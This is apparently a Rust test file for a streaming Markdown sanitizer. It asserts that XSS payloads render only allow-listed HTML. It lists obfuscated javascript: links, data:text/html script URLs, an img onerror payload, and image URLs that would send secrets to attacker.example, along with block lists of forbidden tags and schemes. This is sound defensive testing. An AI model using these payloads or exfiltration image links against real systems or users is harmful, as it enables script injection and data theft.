//! Hostile-input tests: every XSS payload from the shared fixture file, whole
//! and streamed at random splits (with tail completion at every step), must
//! yield only allow-listed tags, attributes and URLs. Checked twice: on the
//! sanitized tree and on the rendered HTML string.

use crate::markdown::random_deltas;
use rand::rngs::StdRng;
use rand::SeedableRng;
use sluice_markdown::{
    complete_tail, image_source, parse_to_nodes, safe_link_href, to_html, ImageSource,
    IncrementalMarkdown, MdNode,
};

/// Tags `to_html` may emit.
const ALLOWED_TAGS: &[&str] = &[
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "ul",
    "ol",
    "li",
    "input",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "hr",
    "br",
    "a",
    "span",
    "button",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Attributes `to_html` may emit.
const ALLOWED_ATTRIBUTES: &[&str] = &[
    "href", "title", "rel", "target", "class", "type", "disabled", "checked", "src", "alt", "start",
];

/// Tags that must never appear, listed explicitly for readable failures.
const FORBIDDEN_TAGS: &[&str] = &[
    "script", "iframe", "svg", "math", "base", "form", "video", "details", "textarea", "style",
    "object", "embed", "image", "noscript", "meta", "link",
];

/// Loads the payload file, one payload per line, `\n` meaning a newline.
fn payloads() -> Option<Vec<String>> {
    let path = crate::support::shared_fixtures::shared_path(
        "fixtures/xss-payloads.txt",
        "xss payload tests",
    )?;
    let raw = std::fs::read_to_string(&path).expect("read the XSS payloads");
    Some(
        raw.lines()
            .filter(|line| !line.is_empty())
            .map(|line| line.replace("\\n", "\n"))
            .collect(),
    )
}

/// Independent re-statement of the link policy used to check outputs.
fn assert_link_allowed(href: &str, context: &str) {
    let lower: String = href
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    let scheme_end = lower.find([':', '/', '?', '#']);
    if let Some(end) = scheme_end {
        if lower[end..].starts_with(':') {
            let scheme = &lower[..end];
            assert!(
                ["http", "https", "mailto"].contains(&scheme),
                "disallowed scheme {scheme:?} in href {href:?} ({context})"
            );
        }
    }
    assert!(!lower.contains("javascript:"), "{href:?} ({context})");
}

/// True for `data:image/{png,jpeg,jpg,gif,webp}[;base64],…`.
fn is_inline_raster(src: &str) -> bool {
    let lower = src.to_ascii_lowercase();
    ["png", "jpeg", "jpg", "gif", "webp"].iter().any(|kind| {
        lower.starts_with(&format!("data:image/{kind},"))
            || lower.starts_with(&format!("data:image/{kind};base64,"))
    })
}

/// Walks the tree: every link passes the allow-list, no image auto-loads.
fn assert_tree_safe(nodes: &[MdNode], context: &str) {
    for node in nodes {
        match node {
            MdNode::Link { href, children, .. } => {
                if let Some(href) = href {
                    assert_link_allowed(href, context);
                    assert_eq!(safe_link_href(href).as_deref(), Some(href.as_str()));
                }
                assert_tree_safe(children, context);
            }
            MdNode::Image { source, .. } => match source {
                ImageSource::InlineData(url) => {
                    assert!(is_inline_raster(url), "inline image {url:?} ({context})");
                }
                ImageSource::ClickToLoad { url, host } => {
                    let lower = url.to_ascii_lowercase();
                    assert!(
                        lower.starts_with("https://") || lower.starts_with("http://"),
                        "click-to-load url {url:?} ({context})"
                    );
                    assert!(
                        !host.is_empty() && !host.contains(['@', '/', ' ', '<', '%']),
                        "host {host:?} ({context})"
                    );
                }
                ImageSource::Blocked => {}
            },
            MdNode::Element { children, .. }
            | MdNode::Heading { children, .. }
            | MdNode::OrderedList { children, .. }
            | MdNode::TableCell { children, .. } => assert_tree_safe(children, context),
            _ => {}
        }
    }
}

/// Checks the HTML string: only allowed tags and attributes, safe URLs.
fn assert_html_safe(html: &str, context: &str) {
    let lower = html.to_ascii_lowercase();
    for forbidden in FORBIDDEN_TAGS {
        assert!(
            !lower.contains(&format!("<{forbidden}")),
            "<{forbidden} in {html:?} ({context})"
        );
    }
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let close = rest[open..]
            .find('>')
            .map(|i| open + i)
            .unwrap_or_else(|| panic!("unterminated tag in {html:?} ({context})"));
        assert_tag_safe(&rest[open + 1..close], html, context);
        rest = &rest[close + 1..];
    }
    assert!(!rest.contains('>') || !rest.contains('<'));
}

/// Checks one tag's inside (between `<` and `>`).
fn assert_tag_safe(tag: &str, html: &str, context: &str) {
    let tag = tag.strip_prefix('/').unwrap_or(tag);
    let name_end = tag.find(' ').unwrap_or(tag.len());
    let name = &tag[..name_end];
    assert!(
        ALLOWED_TAGS.contains(&name),
        "tag {name:?} not allowed in {html:?} ({context})"
    );
    let mut attributes = tag[name_end..].trim_start();
    while !attributes.is_empty() {
        let attr_end = attributes.find(['=', ' ']).unwrap_or(attributes.len());
        let attr = &attributes[..attr_end];
        assert!(
            ALLOWED_ATTRIBUTES.contains(&attr),
            "attribute {attr:?} not allowed in {html:?} ({context})"
        );
        assert!(!attr.starts_with("on"), "event handler in {html:?}");
        attributes = &attributes[attr_end..];
        if let Some(after_eq) = attributes.strip_prefix("=\"") {
            let value_end = after_eq
                .find('"')
                .unwrap_or_else(|| panic!("unquoted value in {html:?} ({context})"));
            let value = after_eq[..value_end].replace("&amp;", "&");
            match attr {
                "href" => assert_link_allowed(&value, context),
                "src" => {
                    assert_eq!(name, "img");
                    assert!(is_inline_raster(&value), "img src {value:?} ({context})");
                }
                _ => assert!(!value.to_ascii_lowercase().contains("javascript:")),
            }
            attributes = &after_eq[value_end + 1..];
        } else {
            assert!(
                attributes.is_empty() || attributes.starts_with(' '),
                "malformed attributes in {html:?} ({context})"
            );
        }
        attributes = attributes.trim_start();
    }
}

/// Full check of one Markdown text.
fn assert_markdown_safe(markdown: &str, context: &str) {
    let nodes = parse_to_nodes(markdown);
    assert_tree_safe(&nodes, context);
    assert_html_safe(&to_html(&nodes), context);
}

/// Streams `payload` in the given deltas, checking every frozen block and
/// the completed tail after each delta.
fn assert_stream_safe(payload: &str, deltas: &[&str], context: &str) {
    let mut markdown = IncrementalMarkdown::new();
    for delta in deltas {
        for block in markdown.push(delta) {
            assert_markdown_safe(&block.source, context);
        }
        assert_markdown_safe(&complete_tail(markdown.tail()), context);
    }
    for block in markdown.finish() {
        assert_markdown_safe(&block.source, context);
    }
    assert_eq!(markdown.source(), payload);
}

#[test]
fn every_payload_is_safe_whole_and_streamed() {
    let Some(payloads) = payloads() else {
        return;
    };
    assert!(!payloads.is_empty());
    let mut rng = StdRng::seed_from_u64(7);
    for payload in &payloads {
        assert_markdown_safe(payload, payload);
        let chars: Vec<&str> = payload
            .char_indices()
            .map(|(i, c)| &payload[i..i + c.len_utf8()])
            .collect();
        assert_stream_safe(payload, &chars, payload);
        for _ in 0..20 {
            let deltas = random_deltas(payload, &mut rng, 12);
            assert_stream_safe(payload, &deltas, payload);
        }
        // The payload embedded in ordinary Markdown context.
        let embedded =
            format!("Intro paragraph.\n\n- item {payload}\n\n> {payload}\n\n{payload}\n");
        assert_markdown_safe(&embedded, payload);
        assert_stream_safe(&embedded, &random_deltas(&embedded, &mut rng, 12), payload);
    }
}

#[test]
fn every_prefix_of_every_payload_is_safe_after_tail_completion() {
    let Some(payloads) = payloads() else {
        return;
    };
    for payload in &payloads {
        for (end, _) in payload.char_indices().skip(1) {
            assert_markdown_safe(&complete_tail(&payload[..end]), payload);
        }
    }
}

#[test]
fn raw_html_payloads_render_as_visible_text() {
    let html = to_html(&parse_to_nodes("hello <script>alert()</script>"));
    assert_eq!(html, "<p>hello &lt;script&gt;alert()&lt;/script&gt;</p>");
    let html = to_html(&parse_to_nodes("<img src=x onerror=alert(1)>"));
    assert_eq!(
        html,
        "<pre class=\"raw-html\">&lt;img src=x onerror=alert(1)&gt;</pre>"
    );
}

#[test]
fn script_scheme_links_are_refused() {
    for raw in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript://%0Dalert(document.domain)",
        "javascript:alert%28sessionStorage.clear%28%29%29",
        "&#x6A;avascript:alert(1)",
        "&#106;avascript:alert(1)",
        "jav&#x09;ascript:alert('XSS');",
        "jav\tascript:alert(1)",
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "\u{1}javascript:alert(1)",
        " \u{a0}javascript:alert(1)",
        "&#xA0javascript:alert(1)",
        "&#xA0;javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript%3Aalert(1)",
        "%6Aavascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:,evilnastystuff",
        "DATA:text/html,<script>",
        "file:///etc/passwd",
        "",
        "   ",
    ] {
        assert_eq!(safe_link_href(raw), None, "{raw:?} must be refused");
    }
}

#[test]
fn ordinary_links_are_kept_cleaned() {
    for (raw, cleaned) in [
        ("https://example.com/a?b=c#d", "https://example.com/a?b=c#d"),
        ("HTTP://EXAMPLE.COM", "HTTP://EXAMPLE.COM"),
        ("  https://example.com/x  ", "https://example.com/x"),
        ("\u{a0}https://example.com", "https://example.com"),
        ("https://exa\tmple.com/\npath", "https://example.com/path"),
        ("mailto:someone@example.com", "mailto:someone@example.com"),
        ("/absolute/path", "/absolute/path"),
        ("./relative", "./relative"),
        ("../up", "../up"),
        ("dir/file.md", "dir/file.md"),
        ("?query=1", "?query=1"),
        ("#fragment", "#fragment"),
        ("//other.example/x", "//other.example/x"),
    ] {
        assert_eq!(safe_link_href(raw).as_deref(), Some(cleaned), "{raw:?}");
    }
}

#[test]
fn markdown_links_with_hidden_schemes_are_inert() {
    for markdown in [
        "[x](&#x6A;avascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript://%0Dalert(1))",
        "[x](&#xA0javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ] {
        let html = to_html(&parse_to_nodes(markdown));
        assert!(
            html.contains("<span class=\"inert-link\">") && !html.contains("<a "),
            "{markdown:?} rendered {html}"
        );
    }
}

#[test]
fn images_are_never_auto_loaded() {
    assert_eq!(image_source("javascript:alert(1)"), ImageSource::Blocked);
    assert_eq!(
        image_source("jav&#x09;ascript:alert(1)"),
        ImageSource::Blocked
    );
    assert_eq!(
        image_source("data:image/svg+xml;base64,PHN2Zz4="),
        ImageSource::Blocked
    );
    assert_eq!(image_source("data:text/html,<b>"), ImageSource::Blocked);
    assert_eq!(image_source("/relative.png"), ImageSource::Blocked);
    assert_eq!(image_source("x.png"), ImageSource::Blocked);
    assert_eq!(
        image_source("https:evil.example/x.png"),
        ImageSource::Blocked
    );
    assert_eq!(
        image_source("https:\\\\evil.example/x.png"),
        ImageSource::Blocked
    );
    assert_eq!(
        image_source("https://%65vil.example/x.png"),
        ImageSource::Blocked
    );
    assert_eq!(
        image_source("ftp://files.example/x.png"),
        ImageSource::Blocked
    );
    assert_eq!(
        image_source("data:image/png;base64,iVBORw0KGgo="),
        ImageSource::InlineData("data:image/png;base64,iVBORw0KGgo=".to_string())
    );
    assert_eq!(
        image_source("DATA:IMAGE/JPEG;BASE64,/9j/"),
        ImageSource::InlineData("DATA:IMAGE/JPEG;BASE64,/9j/".to_string())
    );
    assert_eq!(
        image_source("https://attacker.example/log?q=SECRET_FROM_CONTEXT"),
        ImageSource::ClickToLoad {
            url: "https://attacker.example/log?q=SECRET_FROM_CONTEXT".to_string(),
            host: "attacker.example".to_string(),
        }
    );
    assert_eq!(
        image_source("//attacker.example/p.png?d=DATA"),
        ImageSource::ClickToLoad {
            url: "https://attacker.example/p.png?d=DATA".to_string(),
            host: "attacker.example".to_string(),
        }
    );
    assert_eq!(
        image_source("https://trusted.example@attacker.example/x.png"),
        ImageSource::ClickToLoad {
            url: "https://trusted.example@attacker.example/x.png".to_string(),
            host: "attacker.example".to_string(),
        }
    );
}

#[test]
fn reference_style_images_are_click_to_load() {
    let nodes = parse_to_nodes("![a][ref]\n\n[ref]: https://attacker.example/collect?d=DATA");
    let html = to_html(&nodes);
    assert_eq!(
        html,
        "<p><button type=\"button\" class=\"load-image\">Load image from attacker.example</button></p>"
    );
}

#[test]
fn a_reference_image_whose_definition_streams_in_later_stays_click_to_load() {
    let text =
        "![a][ref]\n\nSome text in between.\n\n[ref]: https://attacker.example/collect?d=DATA\n";
    let mut markdown = IncrementalMarkdown::new();
    let mut shown = Vec::new();
    for (index, c) in text.char_indices() {
        let update = markdown.push(&text[index..index + c.len_utf8()]);
        for block in &update {
            assert_markdown_safe(&block.source, "streamed block");
        }
        sluice_markdown::merge_blocks(&mut shown, update);
        assert_markdown_safe(&complete_tail(markdown.tail()), "streamed tail");
    }
    let update = markdown.finish();
    sluice_markdown::merge_blocks(&mut shown, update);
    let html: String = shown
        .iter()
        .map(|b| to_html(&parse_to_nodes(&b.source)))
        .collect();
    assert!(
        html.starts_with(
            "<p><button type=\"button\" class=\"load-image\">Load image from attacker.example</button></p>"
        ),
        "{html}"
    );
    assert!(!html.contains("<img"), "{html}");
}
